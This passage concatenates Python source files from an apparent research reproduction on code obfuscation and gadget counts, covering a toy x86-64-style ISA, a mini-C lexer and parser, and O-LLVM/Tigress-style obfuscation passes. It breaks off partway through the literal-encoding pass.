    Op.XOR_RR: _info(Op.XOR_RR, "xor", OperandLayout.REG_REG),
    Op.XOR_RI: _info(Op.XOR_RI, "xor", OperandLayout.REG_IMM32),
    Op.SHL_RI: _info(Op.SHL_RI, "shl", OperandLayout.REG_IMM8),
    Op.SHR_RI: _info(Op.SHR_RI, "shr", OperandLayout.REG_IMM8),
    Op.SAR_RI: _info(Op.SAR_RI, "sar", OperandLayout.REG_IMM8),
    Op.MUL_RR: _info(Op.MUL_RR, "mul", OperandLayout.REG_REG),
    Op.NOT_R: _info(Op.NOT_R, "not", OperandLayout.REG),
    Op.NEG_R: _info(Op.NEG_R, "neg", OperandLayout.REG),
    Op.INC_R: _info(Op.INC_R, "inc", OperandLayout.REG),
    Op.DEC_R: _info(Op.DEC_R, "dec", OperandLayout.REG),
    Op.UDIV_RR: _info(Op.UDIV_RR, "udiv", OperandLayout.REG_REG),
    Op.UMOD_RR: _info(Op.UMOD_RR, "umod", OperandLayout.REG_REG),
    Op.CMP_RR: _info(Op.CMP_RR, "cmp", OperandLayout.REG_REG),
    Op.CMP_RI: _info(Op.CMP_RI, "cmp", OperandLayout.REG_IMM32),
    Op.TEST_RR: _info(Op.TEST_RR, "test", OperandLayout.REG_REG),
    Op.TEST_RI: _info(Op.TEST_RI, "test", OperandLayout.REG_IMM32),
    Op.JMP_REL: _info(Op.JMP_REL, "jmp", OperandLayout.REL32),
    Op.JMP_R: _info(Op.JMP_R, "jmp", OperandLayout.REG),
    Op.JMP_M: _info(Op.JMP_M, "jmp", OperandLayout.MEM),
    Op.CALL_REL: _info(Op.CALL_REL, "call", OperandLayout.REL32),
    Op.CALL_R: _info(Op.CALL_R, "call", OperandLayout.REG),
    Op.JE: _info(Op.JE, "je", OperandLayout.REL32),
    Op.JNE: _info(Op.JNE, "jne", OperandLayout.REL32),
    Op.JL: _info(Op.JL, "jl", OperandLayout.REL32),
    Op.JLE: _info(Op.JLE, "jle", OperandLayout.REL32),
    Op.JG: _info(Op.JG, "jg", OperandLayout.REL32),
    Op.JGE: _info(Op.JGE, "jge", OperandLayout.REL32),
    Op.JB: _info(Op.JB, "jb", OperandLayout.REL32),
    Op.JBE: _info(Op.JBE, "jbe", OperandLayout.REL32),
    Op.JA: _info(Op.JA, "ja", OperandLayout.REL32),
    Op.JAE: _info(Op.JAE, "jae", OperandLayout.REL32),
    Op.JS: _info(Op.JS, "js", OperandLayout.REL32),
    Op.JNS: _info(Op.JNS, "jns", OperandLayout.REL32),
}

#: Conditional direct jumps.
COND_JUMPS = frozenset(
    {Op.JE, Op.JNE, Op.JL, Op.JLE, Op.JG, Op.JGE, Op.JB, Op.JBE, Op.JA, Op.JAE, Op.JS, Op.JNS}
)

#: Instructions that unconditionally transfer control.
UNCOND_JUMPS = frozenset({Op.JMP_REL, Op.JMP_R, Op.JMP_M, Op.RET})

#: Instructions that end a basic block.
BLOCK_TERMINATORS = COND_JUMPS | UNCOND_JUMPS | {Op.CALL_REL, Op.CALL_R, Op.HLT, Op.SYSCALL}

#: Indirect control transfers (target comes from a register or memory).
INDIRECT_JUMPS = frozenset({Op.JMP_R, Op.JMP_M, Op.CALL_R, Op.RET})


@dataclass(frozen=True)
class Instruction:
    """One decoded instruction.

    Fields not used by the opcode's layout are ``None``.  ``addr`` is the
    address the instruction was decoded from (or will be assembled to) and
    ``size`` its encoded length in bytes; both are filled by the
    encoder/decoder.
    """

    op: Op
    dst: Optional[Reg] = None
    src: Optional[Reg] = None
    base: Optional[Reg] = None
    disp: int = 0
    imm: Optional[int] = None
    rel: Optional[int] = None
    addr: int = 0

    @property
    def info(self) -> OpInfo:
        return OP_TABLE[self.op]

    @property
    def size(self) -> int:
        return self.info.size

    @property
    def end(self) -> int:
        """Address of the byte just past this instruction."""
        return self.addr + self.size

    @property
    def target(self) -> Optional[int]:
        """Absolute target of a direct jump/call, if applicable."""
        if self.rel is None:
            return None
        return self.end + self.rel

    def is_cond_jump(self) -> bool:
        return self.op in COND_JUMPS

    def is_terminator(self) -> bool:
        return self.op in BLOCK_TERMINATORS

    def is_indirect(self) -> bool:
        return self.op in INDIRECT_JUMPS

    def __str__(self) -> str:
        return format_instruction(self)


def format_instruction(insn: Instruction) -> str:
    """Render an instruction in a compact AT&T-free Intel-ish syntax."""
    info = insn.info
    m = info.mnemonic
    layout = info.layout
    if layout is OperandLayout.NONE:
        return m
    if layout in (OperandLayout.REG, OperandLayout.REG_IN_OPCODE):
        return f"{m} {insn.dst}"
    if layout is OperandLayout.REG_REG:
        return f"{m} {insn.dst}, {insn.src}"
    if layout in (OperandLayout.REG_IMM64, OperandLayout.REG_IMM32):
        return f"{m} {insn.dst}, {insn.imm:#x}"
    if layout is OperandLayout.REG_IMM8:
        return f"{m} {insn.dst}, {insn.imm}"
    if layout is OperandLayout.REG_MEM:
        return f"{m} {insn.dst}, [{insn.base}{insn.disp:+#x}]"
    if layout is OperandLayout.MEM_REG:
        return f"{m} [{insn.base}{insn.disp:+#x}], {insn.src}"
    if layout is OperandLayout.IMM64:
        return f"{m} {insn.imm:#x}"
    if layout is OperandLayout.REL32:
        return f"{m} {insn.target:#x}"
    if layout is OperandLayout.MEM:
        return f"{m} [{insn.base}{insn.disp:+#x}]"
    raise AssertionError(f"unhandled layout {layout}")  # pragma: no cover


def opcode_operands(insn: Instruction) -> Tuple:
    """A tuple identifying the instruction up to its address (for tests)."""
    return (insn.op, insn.dst, insn.src, insn.base, insn.disp, insn.imm, insn.rel)
