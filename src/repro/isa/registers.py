"""Register file definition for the NFL (No-Free-Lunch) machine.

The machine is deliberately x86-64 flavoured: sixteen 64-bit general
purpose registers with the familiar names, a stack pointer (``rsp``), a
frame pointer (``rbp``), and a small set of status flags.  Keeping the
x86-64 naming means the goal states from the paper (``rax = 59`` for
``execve`` and so on) transfer directly.
"""

from __future__ import annotations

import enum


class Reg(enum.IntEnum):
    """General purpose registers, numbered as in x86-64 encoding order."""

    RAX = 0
    RCX = 1
    RDX = 2
    RBX = 3
    RSP = 4
    RBP = 5
    RSI = 6
    RDI = 7
    R8 = 8
    R9 = 9
    R10 = 10
    R11 = 11
    R12 = 12
    R13 = 13
    R14 = 14
    R15 = 15

    def __str__(self) -> str:  # pragma: no cover - trivial
        return self.name.lower()


#: All registers in encoding order.
ALL_REGS = tuple(Reg)

#: Registers used to pass the first six integer arguments (SysV-like).
ARG_REGS = (Reg.RDI, Reg.RSI, Reg.RDX, Reg.RCX, Reg.R8, Reg.R9)

#: Register holding a function's return value and the syscall number.
RET_REG = Reg.RAX

#: Callee-saved registers under the NFL calling convention.
CALLEE_SAVED = (Reg.RBX, Reg.RBP, Reg.R12, Reg.R13, Reg.R14, Reg.R15)

#: Caller-saved (volatile) registers.
CALLER_SAVED = (
    Reg.RAX,
    Reg.RCX,
    Reg.RDX,
    Reg.RSI,
    Reg.RDI,
    Reg.R8,
    Reg.R9,
    Reg.R10,
    Reg.R11,
)

_NAME_TO_REG = {r.name.lower(): r for r in Reg}


def reg_by_name(name: str) -> Reg:
    """Look up a register by its lower-case mnemonic (e.g. ``"rax"``)."""
    try:
        return _NAME_TO_REG[name.lower()]
    except KeyError:
        raise ValueError(f"unknown register name: {name!r}") from None


class Flag(enum.Enum):
    """Status flags updated by arithmetic and comparison instructions."""

    ZF = "zf"  #: zero flag
    SF = "sf"  #: sign flag (bit 63 of the result)
    CF = "cf"  #: carry flag (unsigned overflow)
    OF = "of"  #: overflow flag (signed overflow)

    def __str__(self) -> str:  # pragma: no cover - trivial
        return self.value


ALL_FLAGS = tuple(Flag)

#: 64-bit wrap-around mask used throughout the project.
MASK64 = (1 << 64) - 1


def to_signed(value: int) -> int:
    """Interpret a 64-bit unsigned value as a signed integer."""
    value &= MASK64
    if value >= 1 << 63:
        return value - (1 << 64)
    return value


def to_unsigned(value: int) -> int:
    """Wrap a Python integer into the unsigned 64-bit domain."""
    return value & MASK64
