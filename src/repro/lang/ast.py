"""Abstract syntax tree for MC, the mini-C language.

MC is the source language the benchmark programs are written in.  It is
a small but genuine C subset: 64-bit unsigned integers, pointers,
fixed-size arrays, string literals, functions, the usual statements and
operators — enough to express the Banescu-style benchmark suite, the
SPEC-like programs, and the netperf-like case study (including its
unchecked-copy stack overflow).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Tuple


@dataclass(frozen=True)
class Type:
    """MC types: u64, pointer-to-T, or an array (only as declarations)."""

    kind: str  # "u64" | "ptr" | "array"
    elem: Optional["Type"] = None
    count: int = 0

    @property
    def is_pointer(self) -> bool:
        return self.kind == "ptr"

    def __str__(self) -> str:
        if self.kind == "u64":
            return "u64"
        if self.kind == "ptr":
            return f"{self.elem}*"
        return f"{self.elem}[{self.count}]"


U64 = Type("u64")
PTR_U64 = Type("ptr", U64)


def array_of(elem: Type, count: int) -> Type:
    return Type("array", elem, count)


def ptr_to(elem: Type) -> Type:
    return Type("ptr", elem)


# ---------------------------------------------------------------------------
# Expressions
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Expr:
    pass


@dataclass(frozen=True)
class IntLit(Expr):
    value: int


@dataclass(frozen=True)
class StrLit(Expr):
    value: bytes  # without NUL terminator


@dataclass(frozen=True)
class Var(Expr):
    name: str


@dataclass(frozen=True)
class Unary(Expr):
    op: str  # "-", "~", "!", "*", "&"
    operand: Expr


@dataclass(frozen=True)
class Binary(Expr):
    op: str  # + - * / % & | ^ << >> == != < <= > >= && ||
    lhs: Expr
    rhs: Expr


@dataclass(frozen=True)
class Call(Expr):
    func: str
    args: Tuple[Expr, ...]


@dataclass(frozen=True)
class Index(Expr):
    """``base[index]`` — byte-indexed for char pointers, word for u64."""

    base: Expr
    index: Expr


@dataclass(frozen=True)
class Assign(Expr):
    """Assignment is an expression, as in C (``a = b = 0``)."""

    target: Expr  # Var, Unary("*"), or Index
    value: Expr


# ---------------------------------------------------------------------------
# Statements
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Stmt:
    pass


@dataclass(frozen=True)
class ExprStmt(Stmt):
    expr: Expr


@dataclass(frozen=True)
class Decl(Stmt):
    name: str
    type: Type
    init: Optional[Expr] = None


@dataclass(frozen=True)
class If(Stmt):
    cond: Expr
    then: Tuple[Stmt, ...]
    otherwise: Tuple[Stmt, ...] = ()


@dataclass(frozen=True)
class While(Stmt):
    cond: Expr
    body: Tuple[Stmt, ...]


@dataclass(frozen=True)
class For(Stmt):
    init: Optional[Stmt]
    cond: Optional[Expr]
    step: Optional[Expr]
    body: Tuple[Stmt, ...]


@dataclass(frozen=True)
class Return(Stmt):
    value: Optional[Expr] = None


@dataclass(frozen=True)
class Break(Stmt):
    pass


@dataclass(frozen=True)
class Continue(Stmt):
    pass


# ---------------------------------------------------------------------------
# Top level
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Param:
    name: str
    type: Type


@dataclass(frozen=True)
class Function:
    name: str
    params: Tuple[Param, ...]
    body: Tuple[Stmt, ...]
    returns: Type = U64


@dataclass(frozen=True)
class GlobalVar:
    name: str
    type: Type
    init: Optional[Expr] = None


@dataclass
class Program:
    functions: List[Function] = field(default_factory=list)
    globals: List[GlobalVar] = field(default_factory=list)

    def function(self, name: str) -> Function:
        for fn in self.functions:
            if fn.name == name:
                return fn
        raise KeyError(f"no function named {name!r}")
