"""Lexer for MC, the mini-C language."""

from __future__ import annotations

from dataclasses import dataclass
from typing import List

KEYWORDS = {
    "u64",
    "u8",
    "if",
    "else",
    "while",
    "for",
    "return",
    "break",
    "continue",
}

# Longest-match-first operator table.
OPERATORS = [
    "<<=",
    ">>=",
    "==",
    "!=",
    "<=",
    ">=",
    "&&",
    "||",
    "<<",
    ">>",
    "+=",
    "-=",
    "*=",
    "/=",
    "%=",
    "&=",
    "|=",
    "^=",
    "++",
    "--",
    "+",
    "-",
    "*",
    "/",
    "%",
    "&",
    "|",
    "^",
    "~",
    "!",
    "<",
    ">",
    "=",
    "(",
    ")",
    "{",
    "}",
    "[",
    "]",
    ",",
    ";",
]


@dataclass(frozen=True)
class Token:
    kind: str  # "int", "str", "ident", "kw", "op", "eof"
    text: str
    line: int
    value: int = 0  # for int tokens
    bytes_value: bytes = b""  # for string tokens


class LexError(ValueError):
    def __init__(self, message: str, line: int):
        super().__init__(f"line {line}: {message}")
        self.line = line


def tokenize(source: str) -> List[Token]:
    """Produce a token list ending with an ``eof`` token."""
    tokens: List[Token] = []
    i = 0
    line = 1
    n = len(source)
    while i < n:
        ch = source[i]
        if ch == "\n":
            line += 1
            i += 1
            continue
        if ch in " \t\r":
            i += 1
            continue
        if source.startswith("//", i):
            while i < n and source[i] != "\n":
                i += 1
            continue
        if source.startswith("/*", i):
            end = source.find("*/", i + 2)
            if end < 0:
                raise LexError("unterminated block comment", line)
            line += source.count("\n", i, end)
            i = end + 2
            continue
        if ch.isdigit():
            j = i
            if source.startswith("0x", i) or source.startswith("0X", i):
                j = i + 2
                while j < n and source[j] in "0123456789abcdefABCDEF":
                    j += 1
                value = int(source[i:j], 16)
            else:
                while j < n and source[j].isdigit():
                    j += 1
                value = int(source[i:j])
            tokens.append(Token("int", source[i:j], line, value=value))
            i = j
            continue
        if ch.isalpha() or ch == "_":
            j = i
            while j < n and (source[j].isalnum() or source[j] == "_"):
                j += 1
            text = source[i:j]
            kind = "kw" if text in KEYWORDS else "ident"
            tokens.append(Token(kind, text, line))
            i = j
            continue
        if ch == '"':
            j = i + 1
            out = bytearray()
            while j < n and source[j] != '"':
                c = source[j]
                if c == "\\":
                    j += 1
                    if j >= n:
                        raise LexError("unterminated escape", line)
                    esc = source[j]
                    mapping = {"n": 10, "t": 9, "0": 0, "\\": 92, '"': 34, "r": 13}
                    if esc == "x":
                        out.append(int(source[j + 1 : j + 3], 16))
                        j += 2
                    elif esc in mapping:
                        out.append(mapping[esc])
                    else:
                        raise LexError(f"unknown escape \\{esc}", line)
                else:
                    out.append(ord(c))
                j += 1
            if j >= n:
                raise LexError("unterminated string literal", line)
            tokens.append(Token("str", source[i : j + 1], line, bytes_value=bytes(out)))
            i = j + 1
            continue
        if ch == "'":
            # Character literal → int token.
            j = i + 1
            if j < n and source[j] == "\\":
                esc = source[j + 1]
                mapping = {"n": 10, "t": 9, "0": 0, "\\": 92, "'": 39}
                if esc not in mapping:
                    raise LexError(f"unknown escape \\{esc}", line)
                value = mapping[esc]
                j += 2
            else:
                value = ord(source[j])
                j += 1
            if j >= n or source[j] != "'":
                raise LexError("unterminated char literal", line)
            tokens.append(Token("int", source[i : j + 1], line, value=value))
            i = j + 1
            continue
        for op in OPERATORS:
            if source.startswith(op, i):
                tokens.append(Token("op", op, line))
                i += len(op)
                break
        else:
            raise LexError(f"unexpected character {ch!r}", line)
    tokens.append(Token("eof", "", line))
    return tokens
