"""Recursive-descent parser for MC.

Grammar (C-flavoured)::

    program   := (function | global)*
    function  := type ident "(" params? ")" block
    global    := type ident ("[" int "]")? ("=" expr)? ";"
    block     := "{" stmt* "}"
    stmt      := decl | if | while | for | return | break ";"
               | continue ";" | expr ";" | block
    decl      := type ident ("[" int "]")? ("=" expr)? ";"
    type      := ("u64" | "u8") "*"*

Expressions follow C precedence.  Compound assignments (``+=`` etc.),
``++``/``--`` (statement position), ``&&``/``||`` (with
short-circuiting lowered later) are supported.
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from .ast import (
    Assign,
    Binary,
    Break,
    Call,
    Continue,
    Decl,
    Expr,
    ExprStmt,
    For,
    Function,
    GlobalVar,
    If,
    Index,
    IntLit,
    Param,
    Program,
    Return,
    Stmt,
    StrLit,
    Type,
    Unary,
    Var,
    While,
    array_of,
    ptr_to,
)
from .lexer import Token, tokenize


class ParseError(ValueError):
    def __init__(self, message: str, token: Token):
        super().__init__(f"line {token.line}: {message} (near {token.text!r})")
        self.token = token


_BASE_TYPES = {"u64": Type("u64"), "u8": Type("u8")}

# Binary operator precedence (higher binds tighter).
_PRECEDENCE = {
    "||": 1,
    "&&": 2,
    "|": 3,
    "^": 4,
    "&": 5,
    "==": 6,
    "!=": 6,
    "<": 7,
    "<=": 7,
    ">": 7,
    ">=": 7,
    "<<": 8,
    ">>": 8,
    "+": 9,
    "-": 9,
    "*": 10,
    "/": 10,
    "%": 10,
}

_COMPOUND_OPS = {"+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<=", ">>="}


class Parser:
    def __init__(self, tokens: List[Token]):
        self.tokens = tokens
        self.pos = 0

    # -- token helpers -------------------------------------------------------

    def peek(self, ahead: int = 0) -> Token:
        return self.tokens[min(self.pos + ahead, len(self.tokens) - 1)]

    def next(self) -> Token:
        tok = self.peek()
        self.pos += 1
        return tok

    def accept(self, kind: str, text: Optional[str] = None) -> Optional[Token]:
        tok = self.peek()
        if tok.kind == kind and (text is None or tok.text == text):
            return self.next()
        return None

    def expect(self, kind: str, text: Optional[str] = None) -> Token:
        tok = self.accept(kind, text)
        if tok is None:
            want = text or kind
            raise ParseError(f"expected {want!r}", self.peek())
        return tok

    # -- types ----------------------------------------------------------------

    def _at_type(self) -> bool:
        tok = self.peek()
        return tok.kind == "kw" and tok.text in _BASE_TYPES

    def parse_type(self) -> Type:
        tok = self.expect("kw")
        if tok.text not in _BASE_TYPES:
            raise ParseError("expected a type", tok)
        ty = _BASE_TYPES[tok.text]
        while self.accept("op", "*"):
            ty = ptr_to(ty)
        return ty

    # -- top level ----------------------------------------------------------------

    def parse_program(self) -> Program:
        program = Program()
        while self.peek().kind != "eof":
            if not self._at_type():
                raise ParseError("expected a declaration", self.peek())
            ty = self.parse_type()
            name = self.expect("ident").text
            if self.peek().kind == "op" and self.peek().text == "(":
                program.functions.append(self._parse_function(ty, name))
            else:
                program.globals.append(self._parse_global(ty, name))
        return program

    def _parse_function(self, returns: Type, name: str) -> Function:
        self.expect("op", "(")
        params: List[Param] = []
        if not self.accept("op", ")"):
            while True:
                p_type = self.parse_type()
                p_name = self.expect("ident").text
                params.append(Param(p_name, p_type))
                if self.accept("op", ")"):
                    break
                self.expect("op", ",")
        body = self.parse_block()
        return Function(name=name, params=tuple(params), body=body, returns=returns)

    def _parse_global(self, ty: Type, name: str) -> GlobalVar:
        if self.accept("op", "["):
            count = self.expect("int").value
            self.expect("op", "]")
            ty = array_of(ty, count)
        init = None
        if self.accept("op", "="):
            init = self.parse_expr()
        self.expect("op", ";")
        return GlobalVar(name=name, type=ty, init=init)

    # -- statements ---------------------------------------------------------------

    def parse_block(self) -> Tuple[Stmt, ...]:
        self.expect("op", "{")
        stmts: List[Stmt] = []
        while not self.accept("op", "}"):
            stmts.append(self.parse_stmt())
        return tuple(stmts)

    def parse_stmt(self) -> Stmt:
        tok = self.peek()
        if tok.kind == "op" and tok.text == "{":
            # A bare block: flatten into an If(1){...} to keep Stmt simple.
            return If(IntLit(1), self.parse_block())
        if self._at_type():
            return self._parse_decl()
        if tok.kind == "kw":
            if tok.text == "if":
                return self._parse_if()
            if tok.text == "while":
                return self._parse_while()
            if tok.text == "for":
                return self._parse_for()
            if tok.text == "return":
                self.next()
                value = None if self.peek().text == ";" else self.parse_expr()
                self.expect("op", ";")
                return Return(value)
            if tok.text == "break":
                self.next()
                self.expect("op", ";")
                return Break()
            if tok.text == "continue":
                self.next()
                self.expect("op", ";")
                return Continue()
        expr = self.parse_expr()
        self.expect("op", ";")
        return ExprStmt(expr)

    def _parse_decl(self) -> Stmt:
        ty = self.parse_type()
        name = self.expect("ident").text
        if self.accept("op", "["):
            count = self.expect("int").value
            self.expect("op", "]")
            ty = array_of(ty, count)
        init = None
        if self.accept("op", "="):
            init = self.parse_expr()
        self.expect("op", ";")
        return Decl(name=name, type=ty, init=init)

    def _parse_if(self) -> Stmt:
        self.expect("kw", "if")
        self.expect("op", "(")
        cond = self.parse_expr()
        self.expect("op", ")")
        then = self._stmt_or_block()
        otherwise: Tuple[Stmt, ...] = ()
        if self.accept("kw", "else"):
            if self.peek().text == "if":
                otherwise = (self._parse_if(),)
            else:
                otherwise = self._stmt_or_block()
        return If(cond, then, otherwise)

    def _parse_while(self) -> Stmt:
        self.expect("kw", "while")
        self.expect("op", "(")
        cond = self.parse_expr()
        self.expect("op", ")")
        return While(cond, self._stmt_or_block())

    def _parse_for(self) -> Stmt:
        self.expect("kw", "for")
        self.expect("op", "(")
        init: Optional[Stmt] = None
        if not self.accept("op", ";"):
            if self._at_type():
                init = self._parse_decl()  # consumes the ';'
            else:
                init = ExprStmt(self.parse_expr())
                self.expect("op", ";")
        cond = None
        if not self.accept("op", ";"):
            cond = self.parse_expr()
            self.expect("op", ";")
        step = None
        if self.peek().text != ")":
            step = self.parse_expr()
        self.expect("op", ")")
        return For(init, cond, step, self._stmt_or_block())

    def _stmt_or_block(self) -> Tuple[Stmt, ...]:
        if self.peek().text == "{":
            return self.parse_block()
        return (self.parse_stmt(),)

    # -- expressions ----------------------------------------------------------------

    def parse_expr(self) -> Expr:
        return self._parse_assignment()

    def _parse_assignment(self) -> Expr:
        lhs = self._parse_binary(1)
        tok = self.peek()
        if tok.kind == "op" and tok.text == "=":
            self.next()
            value = self._parse_assignment()
            return Assign(lhs, value)
        if tok.kind == "op" and tok.text in _COMPOUND_OPS:
            self.next()
            op = tok.text[:-1]
            value = self._parse_assignment()
            return Assign(lhs, Binary(op, lhs, value))
        return lhs

    def _parse_binary(self, min_prec: int) -> Expr:
        lhs = self._parse_unary()
        while True:
            tok = self.peek()
            if tok.kind != "op":
                return lhs
            prec = _PRECEDENCE.get(tok.text)
            if prec is None or prec < min_prec:
                return lhs
            self.next()
            rhs = self._parse_binary(prec + 1)
            lhs = Binary(tok.text, lhs, rhs)

    def _parse_unary(self) -> Expr:
        tok = self.peek()
        if tok.kind == "op" and tok.text in ("-", "~", "!", "*", "&"):
            self.next()
            return Unary(tok.text, self._parse_unary())
        if tok.kind == "op" and tok.text in ("++", "--"):
            self.next()
            target = self._parse_unary()
            op = "+" if tok.text == "++" else "-"
            return Assign(target, Binary(op, target, IntLit(1)))
        return self._parse_postfix()

    def _parse_postfix(self) -> Expr:
        expr = self._parse_primary()
        while True:
            if self.accept("op", "("):
                if not isinstance(expr, Var):
                    raise ParseError("calls must target a function name", self.peek())
                args: List[Expr] = []
                if not self.accept("op", ")"):
                    while True:
                        args.append(self.parse_expr())
                        if self.accept("op", ")"):
                            break
                        self.expect("op", ",")
                expr = Call(expr.name, tuple(args))
            elif self.accept("op", "["):
                index = self.parse_expr()
                self.expect("op", "]")
                expr = Index(expr, index)
            elif self.peek().text in ("++", "--"):
                tok = self.next()
                op = "+" if tok.text == "++" else "-"
                # Postfix treated as prefix: fine in statement position,
                # which is the only place the benchmarks use it.
                expr = Assign(expr, Binary(op, expr, IntLit(1)))
            else:
                return expr

    def _parse_primary(self) -> Expr:
        tok = self.next()
        if tok.kind == "int":
            return IntLit(tok.value)
        if tok.kind == "str":
            return StrLit(tok.bytes_value)
        if tok.kind == "ident":
            return Var(tok.text)
        if tok.kind == "op" and tok.text == "(":
            expr = self.parse_expr()
            self.expect("op", ")")
            return expr
        raise ParseError("expected an expression", tok)


def parse(source: str) -> Program:
    """Parse MC source text into a :class:`Program`."""
    return Parser(tokenize(source)).parse_program()
