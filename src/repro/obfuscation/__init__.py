"""Obfuscation passes: O-LLVM and Tigress equivalents over the MC IR."""

from .base import ObfuscationPass, apply_passes
from .bogus_control_flow import BogusControlFlow
from .encode_data import EncodeData
from .flattening import ControlFlowFlattening
from .opaque import OpaquePredicate, make_always_true, make_opaque_predicate
from .pipeline import (
    BOGUS_CF,
    CONFIGS,
    ENCODE_DATA,
    FLATTENING,
    JIT_DYNAMIC,
    LLVM_OBF,
    NONE,
    ObfuscationConfig,
    SELF_MODIFY,
    SINGLE_METHOD_CONFIGS,
    SUBSTITUTION,
    TIGRESS,
    VIRTUALIZATION,
    build_program,
)
from .self_modify import apply_self_modification
from .substitution import InstructionSubstitution
from .virtualization import Virtualization

__all__ = [
    "BOGUS_CF",
    "BogusControlFlow",
    "CONFIGS",
    "ControlFlowFlattening",
    "ENCODE_DATA",
    "EncodeData",
    "FLATTENING",
    "InstructionSubstitution",
    "JIT_DYNAMIC",
    "LLVM_OBF",
    "NONE",
    "ObfuscationConfig",
    "ObfuscationPass",
    "OpaquePredicate",
    "SELF_MODIFY",
    "SINGLE_METHOD_CONFIGS",
    "SUBSTITUTION",
    "TIGRESS",
    "VIRTUALIZATION",
    "Virtualization",
    "apply_passes",
    "apply_self_modification",
    "build_program",
    "make_always_true",
    "make_opaque_predicate",
]
