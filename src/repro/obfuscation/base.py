"""Obfuscation pass infrastructure.

Every pass transforms an :class:`~repro.compiler.ir.IRModule` in place
and returns it, mirroring how Obfuscator-LLVM passes rewrite LLVM IR
between the frontend and codegen.  Passes are deterministic for a given
seed, so every experiment in the paper reproduction is replayable.
"""

from __future__ import annotations

import random
from typing import Iterable

from ..compiler.ir import IRFunction, IRModule

#: Functions that passes must never touch (reserved for the runtime).
PROTECTED_FUNCTIONS = frozenset()


class ObfuscationPass:
    """Base class: subclasses implement :meth:`run_function`."""

    #: Short identifier used in configuration and reports.
    name: str = "base"

    def __init__(self, seed: int = 0):
        self.seed = seed

    def _rng_for(self, fn: IRFunction) -> random.Random:
        # Seed with a string, not a tuple hash: str hashing is
        # randomized per process (PYTHONHASHSEED) while random.Random's
        # string seeding is SHA-512 based and stable — obfuscated builds
        # must be byte-identical across runs for every experiment.
        return random.Random(f"{self.seed}/{self.name}/{fn.name}")

    def run(self, module: IRModule) -> IRModule:
        for fn in list(module.functions.values()):
            if fn.name in PROTECTED_FUNCTIONS:
                continue
            self.run_function(module, fn)
        return module

    def run_function(self, module: IRModule, fn: IRFunction) -> None:  # pragma: no cover
        raise NotImplementedError


def apply_passes(module: IRModule, passes: Iterable[ObfuscationPass]) -> IRModule:
    for p in passes:
        module = p.run(module)
    return module
