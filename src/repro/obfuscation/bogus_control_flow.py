"""Bogus control flow (Obfuscator-LLVM's ``-bcf``).

For each selected basic block, the pass prepends an opaque-true branch:
the true edge runs the original block, the false edge enters a junk
block of plausible-looking garbage computation that finally jumps to
the original code anyway.  Since the predicate always evaluates true,
semantics are preserved — but the binary gains conditional jumps, junk
arithmetic, and unreachable-but-well-formed code: exactly the material
Sec. III blames for the gadget increase."""

from __future__ import annotations

import random
from typing import List

from ..compiler.ir import BinOp, Branch, Const, IRFunction, IRInstr, IRModule, Jump, UnOp
from .base import ObfuscationPass
from .opaque import make_always_true


def _junk_instrs(fn: IRFunction, rng: random.Random, count: int) -> List[IRInstr]:
    """Dead computation that looks alive."""
    out: List[IRInstr] = []
    prev = Const(rng.getrandbits(32))
    for _ in range(count):
        dst = fn.new_temp("junk")
        choice = rng.randrange(4)
        if choice == 0:
            out.append(BinOp(dst, rng.choice(["add", "sub", "xor", "mul"]), prev, Const(rng.getrandbits(16))))
        elif choice == 1:
            out.append(BinOp(dst, rng.choice(["and", "or"]), prev, Const(rng.getrandbits(32))))
        elif choice == 2:
            out.append(UnOp(dst, rng.choice(["not", "neg"]), prev))
        else:
            out.append(BinOp(dst, "shl", prev, Const(rng.randrange(1, 8))))
        prev = dst
    return out


class BogusControlFlow(ObfuscationPass):
    """O-LLVM-style bogus control flow with opaque predicates."""

    name = "bogus_control_flow"

    def __init__(self, seed: int = 0, probability: float = 0.6, junk_size: int = 4):
        super().__init__(seed)
        self.probability = probability
        self.junk_size = junk_size

    def run_function(self, module: IRModule, fn: IRFunction) -> None:
        rng = self._rng_for(fn)
        for label in list(fn.blocks.keys()):
            if rng.random() >= self.probability:
                continue
            self._guard_block(fn, label, rng)

    def _guard_block(self, fn: IRFunction, label: str, rng: random.Random) -> None:
        """Split ``label`` into guard → (real | junk) → real-body."""
        original = fn.blocks[label]
        body_label = fn.new_label(f"real_{label}")
        junk_label = fn.new_label(f"junk_{label}")

        # Move the original block's contents into the new body block.
        body = fn.add_block(body_label)
        body.instrs = original.instrs
        body.terminator = original.terminator

        junk = fn.add_block(junk_label)
        junk.instrs = _junk_instrs(fn, rng, self.junk_size)
        junk.terminator = Jump(body_label)

        pred = make_always_true(fn, rng)
        original.instrs = list(pred.instrs)
        original.terminator = Branch(pred.op, pred.lhs, pred.rhs, body_label, junk_label)
