"""Data encoding (Tigress's ``EncodeLiterals``/``EncodeData``).

Integer literals are replaced by opaque computations that reconstruct
the value at runtime.  Two schemes, chosen per-site:

* **xor split**: ``c`` becomes ``k ^ (c ^ k)`` for a random key ``k``;
* **affine split**: ``c`` becomes ``(c - k) + k`` routed through a
  multiply-by-one disguise ``((c - k) * 1 + k)`` where the literal 1 is
  itself built as ``odd & 1``.

Constants smaller than a threshold (loop bounds 0/1 and shift counts)
are left alone to avoid exploding hot loops."""

from __future__ import annotations

import random
from typing import List

from ..compiler.ir import (
    BinOp,
    CallInstr,
    CmpSet,
    Const,
    Copy,
    IRFunction,
    IRInstr,
    IRModule,
    Store,
    Temp,
    Value,
)
from .base import ObfuscationPass


class EncodeData(ObfuscationPass):
    """Tigress-style literal encoding."""

    name = "encode_data"

    def __init__(self, seed: int = 0, min_value: int = 2, probability: float = 0.9):
        super().__init__(seed)
        self.min_value = min_value
        self.probability = probability

    def run_function(self, module: IRModule, fn: IRFunction) -> None:
        rng = self._rng_for(fn)
        for block in fn.blocks.values():
            new_instrs: List[IRInstr] = []
            for instr in block.instrs:
                new_instrs.extend(self._rewrite_instr(fn, instr, rng))
            block.instrs = new_instrs

    def _should_encode(self, value: Value, rng: random.Random) -> bool:
        return (
            isinstance(value, Const)
            and value.value >= self.min_value
            and rng.random() < self.probability
        )

    def _encode_const(
        self, fn: IRFunction, const: Const, rng: random.Random, out: List[IRInstr]
    ) -> Temp:
        dst = fn.new_temp("enc")
        if rng.random() < 0.5:
            key = rng.getrandbits(32)
